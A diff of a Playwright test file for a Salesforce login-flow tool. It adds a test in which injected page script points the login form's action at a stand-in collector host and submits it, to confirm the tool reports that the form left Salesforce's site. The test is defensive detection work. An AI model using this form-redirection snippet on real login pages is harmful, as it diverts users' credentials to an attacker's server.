@@ -10,6 +10,8 @@ import {
   type Drift,
   type PageState,
 } from '../../../pages/index.ts';
+import { identifyPage } from '../../../pages/states/identify.ts';
+import { watchNavigation } from '../../../pages/browser/navigation.ts';
 import { MY_DOMAIN, openState, saved, serve } from './saved/index.ts';
 
 const USER = 'connector@acme.example';
@@ -51,6 +53,20 @@ test.describe('a page that nobody can pass: an error with the advice of its row 
     expect((await stopErrorFor(page, 'browser-error', USER)).message).toMatch(
       /Check the URL .* status\.salesforce\.com\.$/,
     );
+  });
+
+  test('a script sends a form elsewhere once it was checked', async ({ page }) => {
+    await openState(page, 'login');
+    watchNavigation(page);
+    await page.evaluate(() => {
+      const form = document.querySelector('form') as HTMLFormElement;
+      form.action = 'http://collector.example.test:1/';
+      form.submit();
+    });
+    await page.waitForURL('http://collector.example.test:1/');
+    const says = /^The form of the last page left Salesforce's site for http:\/\/collector\.example\.test:1, /;
+    expect((await stopErrorFor(page, 'browser-error', USER)).message).toMatch(says);
+    await expect(identifyPage(page, { timeout: 500 })).rejects.toThrow(says);
   });
 
   test('salesforce-error: the text of the page is told', async ({ page }) => {
